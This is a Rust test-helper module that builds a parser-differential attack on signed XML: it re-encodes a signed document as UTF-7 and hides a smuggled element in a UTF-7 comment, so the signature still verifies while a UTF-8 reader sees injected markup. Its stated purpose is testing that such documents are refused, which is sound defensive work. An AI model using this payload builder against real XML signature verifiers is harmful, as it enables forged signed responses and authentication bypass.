//! The parser-differential attack on signed XML through the encoding declaration: a
//! signed document re-declared `encoding="UTF-7"`, re-encoded so that a UTF-7 decoder
//! (libxml2, the verifier) reads exactly the signed text, with an element smuggled in as
//! `+ADw-!--…--+AD4-`: a comment for UTF-7, an element for a UTF-8 reader. For the tests
//! that prove such a document is refused (feeds, responses, the CLI, `serve`).

use base64::Engine as _;

/// `text` in UTF-7 (RFC 2152): what a decoder reads back is `text`.
#[must_use]
pub fn encode(text: &str) -> String {
    // What glibc's decoder takes as is: printable ASCII but `+` and `\`, tab, CR, LF.
    let direct = |c: char| {
        matches!(c, '\t' | '\r' | '\n') || (' '..='}').contains(&c) && c != '+' && c != '\\'
    };
    let mut out = String::with_capacity(text.len() + text.len() / 8);
    let mut run: Vec<u8> = Vec::new();
    let flush = |run: &mut Vec<u8>, out: &mut String| {
        if !run.is_empty() {
            out.push('+');
            out.push_str(&base64::engine::general_purpose::STANDARD_NO_PAD.encode(&*run));
            out.push('-');
            run.clear();
        }
    };
    for c in text.chars() {
        if c == '+' {
            flush(&mut run, &mut out);
            out.push_str("+-");
        } else if direct(c) {
            flush(&mut run, &mut out);
            out.push(c);
        } else {
            let mut units = [0u16; 2];
            for unit in c.encode_utf16(&mut units) {
                run.extend_from_slice(&unit.to_be_bytes());
            }
        }
    }
    flush(&mut run, &mut out);
    out
}

/// Where the smuggled element goes.
#[derive(Debug, Clone, Copy)]
pub enum Place {
    /// Just before the root's end tag.
    InsideRoot,
    /// After the root element.
    AfterRoot,
    /// Before the root element (it then becomes the UTF-8 reader's root).
    BeforeRoot,
}

/// `signed` (a UTF-8 document) re-declared UTF-7, with `smuggled` (ASCII, no `+`, `\` or
/// `--`) hidden in a UTF-7 comment at `place`. The signature still verifies for a UTF-7
/// decoder; a UTF-8 reader sees `smuggled` as markup.
///
/// `None` when `smuggled` could not read the same both ways, or `root_end` is not found.
#[must_use]
pub fn smuggle(signed: &str, smuggled: &str, place: Place, root_end: &str) -> Option<String> {
    let same_both_ways = smuggled.is_ascii()
        && !smuggled.contains('+')
        && !smuggled.contains('\\')
        && !smuggled.contains("--");
    if !same_both_ways {
        return None;
    }
    let hidden = format!("+ADw-!--{smuggled}--+AD4-");
    let body = match signed.find("?>") {
        Some(end) if signed.starts_with("<?xml") => signed.get(end + 2..)?,
        _ => signed,
    };
    let mut doc = encode(body);
    match place {
        Place::InsideRoot => {
            let at = doc.rfind(root_end)?;
            doc.insert_str(at, &hidden);
        }
        Place::AfterRoot => doc.push_str(&hidden),
        Place::BeforeRoot => doc.insert_str(0, &hidden),
    }
    Some(format!("<?xml version=\"1.0\" encoding=\"UTF-7\"?>\n{doc}"))
}
